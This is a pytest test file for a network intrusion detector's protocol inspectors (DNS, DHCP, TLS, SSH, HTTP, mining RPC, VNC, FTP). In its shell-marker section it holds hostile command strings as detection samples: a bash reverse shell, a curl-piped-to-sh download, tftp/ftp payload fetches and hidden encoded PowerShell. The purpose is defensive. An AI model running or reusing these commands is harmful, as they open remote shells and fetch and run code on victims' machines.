"""The L7 inspectors on messages built by other code (scapy) or by hand from the RFCs."""

from __future__ import annotations

import base64
import hashlib
import struct

import numpy as np
import pytest
from scapy.layers.dhcp import BOOTP, DHCP
from scapy.layers.dns import DNS, DNSQR, DNSRR

from detector.l7 import dhcp, dns, http, rfb, rpc, shell, ssh, tls
from detector.l7.tap import ftp_endpoint
from detector.synth import messages as msg


# -- DNS ---------------------------------------------------------------------------------------
def test_dns_query_and_answers_from_scapy():
    q = bytes(DNS(id=0x1234, rd=1, qd=DNSQR(qname="www.Example.org", qtype="TXT")))
    m = dns.parse(q)
    assert (m.txid, m.response, m.qname, m.qtype_name) == (0x1234, False, "www.example.org", "TXT")
    r = bytes(DNS(id=7, qr=1, rcode=3, qd=DNSQR(qname="a.b.c"),
                  an=[DNSRR(rrname="a.b.c", type="A", ttl=42, rdata="192.0.2.9"),
                      DNSRR(rrname="a.b.c", type="CNAME", ttl=5, rdata="x.y.z")]))
    m = dns.parse(r)
    assert m.response and m.rcode == 3 and m.txid == 7
    assert [(a.rtype, a.ttl, a.data) for a in m.answers] == [(1, 42, "192.0.2.9"), (5, 5, "x.y.z")]


def test_dns_over_tcp_length_prefix_and_damage():
    q = bytes(DNS(id=9, qd=DNSQR(qname="tcp.example")))
    assert dns.parse(struct.pack(">H", len(q)) + q, tcp=True).qname == "tcp.example"
    with pytest.raises(ValueError):
        dns.parse(q[:11])
    looped = q[:12] + b"\xc0\x0c" + b"\x00\x01\x00\x01"  # a name pointing at itself
    with pytest.raises(ValueError):
        dns.parse(looped)


# -- DHCP ---------------------------------------------------------------------------------------
def test_dhcp_offer_from_scapy():
    p = bytes(BOOTP(op=2, xid=0xABCD, yiaddr="10.1.2.3", chaddr=bytes.fromhex("020000aabbcc"))
              / DHCP(options=[("message-type", "offer"), ("server_id", "10.1.0.1"), ("router", "10.1.0.254"),
                              ("name_server", "10.1.0.53"), "end"]))
    m = dhcp.parse(p)
    assert (m.op, m.xid, m.type_name, m.your_ip, m.server_id) == (2, 0xABCD, "OFFER", "10.1.2.3", "10.1.0.1")
    assert m.client_mac == "02:00:00:aa:bb:cc" and m.routers == ["10.1.0.254"]
    with pytest.raises(ValueError):
        dhcp.parse(p[:200])


# -- TLS -----------------------------------------------------------------------------------------
def test_client_hello_sni_and_ja3():
    rng = np.random.default_rng(1)
    ciphers = (0x0A0A, 0x1301, 0xC02F)  # a GREASE value first, as browsers send
    rec = msg.client_hello(rng, "Files.Example.ORG", ciphers=ciphers)
    (mtype, body), = tls.handshake_messages(rec)
    ch = tls.parse_client_hello(body)
    assert mtype == 1 and ch.sni == "files.example.org" and ch.alpn == ["h2", "http/1.1"]
    # JA3: version, ciphers, extensions, curves, point formats; GREASE left out
    assert ch.ja3_string == "771,4865-49199,0-10-11-13-16-23-65281,29-23-24-25,0"
    assert ch.ja3 == hashlib.md5(ch.ja3_string.encode()).hexdigest()


def test_certificate_chain_subject_issuer_and_fingerprint():
    rng = np.random.default_rng(2)
    leaf = msg.certificate(rng, "portal.example.org", "R11", "Let's Encrypt")
    root = msg.certificate(rng, "Root CA", "Root CA")
    flight = msg.server_flight(rng, [leaf, root])
    kinds = dict(tls.handshake_messages(flight))
    sh = tls.parse_server_hello(kinds[2])
    certs = tls.parse_certificates(kinds[11])
    assert sh.version == 0x0303 and sh.cipher == 0xC02F
    assert [c.subject for c in certs] == ["CN=portal.example.org", "CN=Root CA"]
    assert certs[0].issuer == "O=Let's Encrypt,CN=R11" and not certs[0].self_signed
    assert certs[1].self_signed
    assert certs[0].sha256 == hashlib.sha256(leaf).hexdigest()
    assert tls.parse_certificate(leaf[:40]) is None  # cut short: no certificate, no exception


# -- SSH --------------------------------------------------------------------------------------------
def test_ssh_banner_and_host_key_fingerprint_as_openssh_prints_it():
    rng = np.random.default_rng(3)
    blob = msg.ssh_host_key(5)
    server_side = b"SSH-2.0-OpenSSH_8.7\r\n" + msg.ssh_kexinit(rng) + msg.ssh_kex_reply(rng, blob)
    text, start = ssh.banner(server_side)
    assert text == "SSH-2.0-OpenSSH_8.7" and start == 21
    key = ssh.host_key(server_side, start)
    expected = "SHA256:" + base64.b64encode(hashlib.sha256(blob).digest()).decode().rstrip("=")
    assert (key.key_type, key.fingerprint) == ("ssh-ed25519", expected)
    client_side = b"SSH-2.0-x\r\n" + msg.ssh_kexinit(rng) + msg.ssh_kex_client(rng)
    assert ssh.host_key(client_side, ssh.banner(client_side)[1]) is None
    assert ssh.banner(b"no banner here\n")[0] is None


# -- HTTP, mining, RFB, shells, FTP ------------------------------------------------------------
def test_http_request_head():
    r = http.parse_request(msg.http_request("POST", "up.example", "/u", "curl/8.5", body_len=5000,
                                            content_type="multipart/form-data; boundary=x",
                                            extra="Cookie: PHPSESSID=abc123; lang=en") + b"body")
    assert (r.method, r.uri, r.host, r.content_length, r.user_agent) == ("POST", "/u", "up.example", 5000, "curl/8.5")
    assert r.cookies == {"PHPSESSID": "abc123", "lang": "en"}
    assert http.parse_response(msg.http_response(404, 10)).status == 404
    assert http.parse_request(b"\x16\x03\x01garbage") is None


def test_mining_methods_need_miner_shaped_json():
    stratum = b'{"id":1,"method":"mining.subscribe","params":["cgminer/4.9"]}\n'
    assert rpc.mining_methods(stratum) == (["mining.subscribe"], None)
    xmrig = msg.jsonrpc({"id": 1, "method": "login", "params": {"login": "4abc", "agent": "XMRig/6.21.0"}})
    assert rpc.mining_methods(xmrig) == (["login"], "XMRig/6.21.0")
    # a web app's JSON login is not mining
    assert rpc.mining_methods(b'{"method":"login","params":{"user":"bob","password":"x"}}') == ([], None)
    version = bytes.fromhex("f9beb4d9") + b"version".ljust(12, b"\0") + bytes(8)
    assert rpc.p2p_protocol(version) == ("bitcoin", "version")


def test_rfb_handshake_outcomes():
    server = b"RFB 003.008\n" + b"\x01\x02" + bytes(16) + struct.pack(">I", 1) + struct.pack(">I", 6) + b"failed"
    client = b"RFB 003.008\n" + b"\x02" + bytes(16)
    h = rfb.parse(client, server)
    assert (h.server_version, h.security_type, h.auth_ok, h.reason) == ("RFB 003.008", 2, False, "failed")
    assert (h.challenge_end, h.response_end) == (30, 29)
    ok33 = rfb.parse(b"RFB 003.003\n" + bytes(16), b"RFB 003.003\n" + struct.pack(">I", 2) + bytes(16) + bytes(4))
    assert ok33.security_type == 2 and ok33.auth_ok is True
    assert rfb.parse(b"RFB 003.008\n", b"RFB 003.008\n").auth_ok is None
    assert rfb.parse(b"", b"HTTP/1.1 200 OK\r\n") is None


SHELL_EXAMPLES = {
    "windows command prompt banner": b"Microsoft Windows [Version 10.0.19045.2965]",
    "windows command prompt": b"C:\\Users\\alice>",
    "ftp script written by echo": b"echo open 203.0.113.5 21> f.txt",
    "scripted ftp download": b"ftp -n -s:f.txt",
    "tftp download": b"tftp -i 203.0.113.5 GET x.exe",
    "cmd /c execution": b"cmd.exe /c whoami",
    "encoded powershell": b"powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "download piped to a shell": b"curl -fsSL http://203.0.113.5/x | sh",
    "interactive shell spawned": b"/bin/bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "shell without job control": b"bash: no job control in this shell",
    "root identity printed": b"uid=0(root) gid=0(root) groups=0(root)",
    "downloaded file made executable and run": b"chmod +x /tmp/.x; ./x",
}


@pytest.mark.parametrize("name", [m[0] for m in shell.MARKERS])
def test_every_shell_marker_found_at_the_start_of_any_payload(name):
    text = SHELL_EXAMPLES[name]
    data = bytes(range(7, 200)) + text + b"\r\n" + text
    offs = np.array([0, 193, 193 + len(text), len(data)])
    assert [(j, n) for j, n, _ in shell.find_markers(data, offs)] == [(1, name), (2, name)]


def test_shell_markers_one_per_payload_and_not_across():
    a = b"Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\WINDOWS\\system32>"
    b = b"nothing to see"
    c = b"echo open 10.0.0.1 8884 > o&echo user 1 1 >> o &ftp -n -s:o"
    data = a + b + c
    offs = np.array([0, len(a), len(a) + len(b), len(data)])
    found = shell.find_markers(data, offs)
    assert [(j, name) for j, name, _ in found] == [(0, "windows command prompt banner"), (2, "ftp script written by echo")]
    split = b"uid=0(root) g" + b"id=0(root)"
    assert shell.find_markers(split, np.array([0, 13, len(split)])) == []
    assert shell.is_file_transfer(50123, 40000) and shell.is_file_transfer(33000, 445)
    assert not shell.is_file_transfer(41500, 4444)


def test_the_literal_scan_finds_what_bytes_find_finds_within_the_limit():
    """kernels.l7_select.payloads_with_literals over payloads in a capture buffer: a hit where a
    marker's literal lies wholly within the first ``limit`` captured bytes, at any offset, and
    nowhere else (not across payloads, not past the limit or the capture)."""
    from kernels import l7_select as ks
    from kernels import packet_columns as pc

    limit = 64
    lit = b"uid=0(root)"
    payloads = [b"x" * 10 + lit, lit, b"x" * (limit - len(lit)) + lit, b"x" * (limit - len(lit) + 1) + lit,
                b"uid=0(ro", b"ot)" + b"y" * 20, b"nothing here at all", b"", b"/bin/", b"/bin"]
    head = 20  # a header before each payload
    buf = b"".join(b"H" * head + pl for pl in payloads)
    n = len(payloads)
    cols = pc.allocate(n)
    off = np.cumsum([0] + [head + len(pl) for pl in payloads])[:-1].astype(np.int64)
    cols.payload_off[:] = head
    cols.cap_len[:] = [head + len(pl) for pl in payloads]
    cols.cap_len[8] = head + 3  # "/bin/" cut by the capture
    hit = np.zeros(n, np.uint8)
    ks.payloads_with_literals(np.frombuffer(buf, np.uint8), off, cols, np.arange(n, dtype=np.int64), limit,
                              shell.LITERAL_BYTES, shell.LITERAL_OFFSETS, shell.LITERAL_FIRST, hit)
    expected = [any(x in pl[:min(limit, int(cols.cap_len[j]) - head)] for x in shell._LITERALS)
                for j, pl in enumerate(payloads)]
    assert hit.astype(bool).tolist() == expected == [True, True, True, False, False, False, False, False, False,
                                                     False]


@pytest.mark.parametrize("line,expected", [
    (b"PORT 10,0,0,5,195,80", ("10.0.0.5", 50000)),
    (b"227 Entering Passive Mode (192,168,1,2,4,1).", ("192.168.1.2", 1025)),
    (b"EPRT |2|2001:db8::1|6275|", ("2001:db8::1", 6275)),
    (b"229 Entering Extended Passive Mode (|||6446|)", (None, 6446)),
    (b"200 OK", None),
])
def test_ftp_data_endpoints(line, expected):
    assert ftp_endpoint(line) == expected
